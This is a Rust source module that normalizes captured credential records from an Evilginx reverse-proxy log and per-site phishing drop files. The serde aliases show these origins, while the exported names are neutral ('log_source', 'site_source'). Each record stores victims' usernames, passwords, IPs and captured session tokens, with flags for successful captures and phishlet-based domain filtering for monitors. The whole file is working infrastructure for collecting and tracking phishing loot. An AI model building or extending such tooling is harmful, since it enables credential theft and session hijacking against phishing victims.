//! Credential records and their provenance.
//!
//! A `Record` is one normalized observation pulled from an upstream source.
//! Core fields are typed; anything else the upstream document carried is kept
//! in `extra` so it survives a round trip through the records snapshot.

use std::fmt;
use std::str::FromStr;

use chrono::{DateTime, NaiveDateTime, TimeZone, Utc};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::identity::derive_identifier;

/// Which external origin a record came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SourceKind {
    /// Line-oriented log written by the reverse proxy.
    #[serde(alias = "evilginx")]
    LogSource,
    /// Per-site drop files under the web root.
    #[serde(alias = "apache_phishing")]
    SiteSource,
}

impl SourceKind {
    /// Every source kind, in polling order.
    pub const ALL: [SourceKind; 2] = [SourceKind::LogSource, SourceKind::SiteSource];

    /// Wire name used in snapshots.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::LogSource => "log_source",
            Self::SiteSource => "site_source",
        }
    }
}

impl fmt::Display for SourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for SourceKind {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "log_source" | "log" | "evilginx" => Ok(Self::LogSource),
            "site_source" | "site" | "apache_phishing" => Ok(Self::SiteSource),
            other => Err(format!("unknown source kind '{other}'")),
        }
    }
}

/// One credential observation.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Record {
    /// Stable identifier, either upstream-supplied or content-derived.
    pub id: String,

    pub source_kind: SourceKind,

    /// Free-form provenance, e.g. the site directory name.
    #[serde(default)]
    pub source_detail: String,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub username: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ip: Option<String>,

    /// Captured session token blob, kept opaque.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tokens: Option<Value>,

    pub captured_at: DateTime<Utc>,

    /// Domain or phishlet label used by monitor filters.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub domain: Option<String>,

    #[serde(default)]
    pub has_credentials: bool,

    #[serde(default)]
    pub has_session: bool,

    /// Upstream attributes without a typed home.
    #[serde(flatten)]
    pub extra: Map<String, Value>,
}

/// Keys the normalizer owns; upstream values for these never reach `extra`.
const RESERVED_KEYS: &[&str] = &[
    "source_kind",
    "source_detail",
    "captured_at",
    "has_credentials",
    "has_session",
    "domain",
];

impl Record {
    /// Normalize an upstream JSON object into a record.
    ///
    /// `domain` overrides whatever label the document carries; log-source
    /// records pass `None` and fall back to the `phishlet` field.
    #[must_use]
    pub fn from_upstream(
        mut obj: Map<String, Value>,
        source_kind: SourceKind,
        source_detail: impl Into<String>,
        domain: Option<String>,
        now: DateTime<Utc>,
    ) -> Self {
        let supplied_id = obj.remove("id").and_then(scalar_to_string);
        let username = obj.remove("username").and_then(scalar_to_string);
        let password = obj.remove("password").and_then(scalar_to_string);
        let ip = obj
            .remove("ip")
            .and_then(scalar_to_string)
            .or_else(|| obj.remove("remote_addr").and_then(scalar_to_string));
        let tokens = obj.remove("tokens").filter(|v| !v.is_null());

        let captured_at = obj
            .remove("timestamp")
            .as_ref()
            .and_then(parse_timestamp_value)
            .or_else(|| obj.remove("create_time").as_ref().and_then(parse_timestamp_value))
            .unwrap_or(now);

        let domain = domain.or_else(|| obj.remove("phishlet").and_then(scalar_to_string));

        for key in RESERVED_KEYS {
            obj.remove(*key);
        }

        let id = derive_identifier(
            supplied_id.as_deref(),
            username.as_deref(),
            password.as_deref(),
            ip.as_deref(),
        );

        let has_credentials = non_empty(username.as_deref()) || non_empty(password.as_deref());
        let has_session = tokens.as_ref().is_some_and(blob_is_populated);

        Self {
            id,
            source_kind,
            source_detail: source_detail.into(),
            username,
            password,
            ip,
            tokens,
            captured_at,
            domain,
            has_credentials,
            has_session,
            extra: obj,
        }
    }

    /// True iff the record passes a monitor's domain allow-list.
    ///
    /// An empty allow-list admits everything; otherwise the record must carry
    /// a label that is an exact member of the list.
    #[must_use]
    pub fn matches_domains(&self, allow: &[String]) -> bool {
        if allow.is_empty() {
            return true;
        }
        self.domain
            .as_deref()
            .is_some_and(|d| allow.iter().any(|a| a == d))
    }
}

fn non_empty(s: Option<&str>) -> bool {
    s.is_some_and(|s| !s.is_empty())
}

fn scalar_to_string(v: Value) -> Option<String> {
    match v {
        Value::Null => None,
        Value::String(s) => Some(s),
        Value::Bool(b) => Some(b.to_string()),
        Value::Number(n) => Some(n.to_string()),
        other => Some(other.to_string()),
    }
}

fn blob_is_populated(v: &Value) -> bool {
    match v {
        Value::Null => false,
        Value::Bool(b) => *b,
        Value::String(s) => !s.is_empty(),
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
        Value::Number(_) => true,
    }
}

fn parse_timestamp_value(v: &Value) -> Option<DateTime<Utc>> {
    match v {
        Value::String(s) => parse_timestamp(s),
        Value::Number(n) => n
            .as_i64()
            .filter(|secs| *secs > 0)
            .and_then(|secs| Utc.timestamp_opt(secs, 0).single()),
        _ => None,
    }
}

/// Parse the timestamp spellings seen upstream. Naive values are taken as UTC.
#[must_use]
pub fn parse_timestamp(s: &str) -> Option<DateTime<Utc>> {
    let s = s.trim();
    if s.is_empty() {
        return None;
    }
    if let Ok(dt) = DateTime::parse_from_rfc3339(s) {
        return Some(dt.with_timezone(&Utc));
    }
    ["%Y-%m-%d %H:%M:%S", "%Y-%m-%dT%H:%M:%S%.f", "%Y-%m-%d %H:%M:%S%.f"]
        .iter()
        .find_map(|fmt| NaiveDateTime::parse_from_str(s, fmt).ok())
        .map(|naive| Utc.from_utc_datetime(&naive))
}
